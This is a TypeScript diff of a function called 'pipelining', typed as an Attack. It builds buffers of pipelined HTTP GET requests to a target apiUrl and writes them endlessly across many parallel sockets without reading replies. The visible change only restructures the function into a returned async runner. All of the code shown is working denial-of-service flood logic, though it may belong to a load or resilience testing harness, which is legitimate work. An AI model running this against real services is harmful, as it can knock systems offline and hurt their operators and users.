@@ -14,14 +14,16 @@ const paths = [
 ]
 
 /** Thousands of requests on one connection without reading an answer first. */
-export const pipelining: Attack = async ({ apiUrl }, count) => {
+export const pipelining: Attack = ({ apiUrl }) => {
   const { host } = new URL(apiUrl)
   const request = (n: number): string =>
     `GET ${paths[n % paths.length] ?? '/'} HTTP/1.1\r\nHost: ${host}\r\n\r\n`
   const piece = Buffer.from(
     Array.from({ length: REQUESTS_PER_PIECE }, (_, n) => request(n)).join(''),
   )
-  const socket = (): Promise<never> =>
-    keepConnected(apiUrl, (opened) => writeForever(opened, piece, PAUSE_MS), count)
-  await Promise.all(Array.from({ length: SOCKETS }, socket))
+  return async (count) => {
+    const socket = (): Promise<never> =>
+      keepConnected(apiUrl, (opened) => writeForever(opened, piece, PAUSE_MS), count)
+    await Promise.all(Array.from({ length: SOCKETS }, socket))
+  }
 }
